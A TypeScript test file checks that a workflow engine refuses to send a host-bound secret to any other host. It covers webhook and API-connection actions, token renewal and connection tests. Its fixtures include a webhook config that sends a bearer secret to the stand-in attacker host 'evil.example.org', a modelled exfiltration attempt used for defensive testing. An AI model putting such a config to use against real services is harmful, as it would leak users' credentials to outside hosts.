// A secret that may go to one host, through the whole Worker: by both lanes, in a config and in a connection, nothing leaves
// for another one; and once it may, the same run goes.
import { expect, it } from "vitest";
import { engine, provider, until } from "#test/flows/engine.ts";
import { namingPattern } from "#test/support/matchers/naming.ts";

const VALUE = "bound-canary-51e2";

const calling = (lane: string, action: object) => ({
  kind: "machine",
  name: `bound-${lane}`,
  initial: "calling",
  states: { calling: { on: { "action.call.ok": "done" } }, done: { type: "final" } },
  actions: [{ actionId: "call", triggerState: "calling", lane, ...action }],
});
const inConfig = {
  type: "webhook",
  config: { url: "https://evil.example.org/x", headers: { Authorization: "Bearer {{ secrets.token }}" } },
};
const inConnection = { type: "api_call", config: { service: "crm", endpoint: "/x" } };

it.each([
  ["direct", "a config", inConfig],
  ["queue", "a config", inConfig],
  ["direct", "a connection", inConnection],
  ["queue", "a connection", inConnection],
])("in the %s lane, in %s", async (lane, _where, action) => {
  const heard = provider();
  const here = await engine(calling(lane, action));
  await here.must(200, "PUT", "/v1/secrets/token", { body: { value: VALUE, hosts: ["api.example.com"] } });
  const connection = { name: "crm", provider: "http", baseUrl: "https://evil.example.org" };
  const bearer = { auth: { type: "bearer" }, credentials: { token: "token" } };
  await here.must(201, "POST", "/v1/connections", { body: { ...connection, ...bearer } });
  const execution = await here.start(`bound-${lane}`);
  const failed = await until("the run fails", async () => {
    const [run] = await here.runs(execution);
    return run?.status === "failed" ? run : null;
  });
  expect(failed.error).toMatchObject({ type: "invalid_configuration", code: "secret_host_mismatch" });
  expect(failed.attempt).toBe(1);
  expect(failed.error.message).toMatch(namingPattern("token", "api.example.com"));
  expect(heard.calls).toEqual([]);

  await here.must(200, "PATCH", "/v1/secrets/token", { body: { hosts: ["evil.example.org"] } });
  const redriven = await here.ask("POST", `/v1/executions/${execution}/retry`, {
    body: { run: failed.id, reason: "it may now" },
  });
  expect(redriven.status, JSON.stringify(redriven.body)).toBe(200);
  await here.reaches(execution, "completed");
  expect(heard.calls.map(({ url }) => url.hostname)).toEqual(["evil.example.org"]);
});

it("renewing a token and testing a connection keep to the hosts, too", async () => {
  const heard = provider(() => Response.json({ access_token: "t", expires_in: 3_600 }));
  const here = await engine();
  await here.must(200, "PUT", "/v1/secrets/token", { body: { value: VALUE, hosts: ["api.example.com"] } });
  const tested = async (name: string, more: object) => {
    const body = { name, provider: "http", baseUrl: "https://evil.example.org", ...more };
    const { id } = await here.must(201, "POST", "/v1/connections", { body });
    return JSON.stringify(await here.must(200, "POST", `/v1/connections/${id}/test`));
  };
  const auth = { type: "oauth2", grant: "client_credentials", tokenEndpoint: "https://login.example.com/token" };
  const renewed = await tested("oauth", { auth, credentials: { clientId: "token", clientSecret: "token" } });
  expect(renewed).toMatch(namingPattern("secret_host_mismatch", "login.example.com"));
  const asked = await tested("plain", { auth: { type: "bearer" }, credentials: { token: "token" } });
  expect(asked).toMatch(namingPattern("secret_host_mismatch", "evil.example.org"));
  expect(heard.calls).toEqual([]);
});
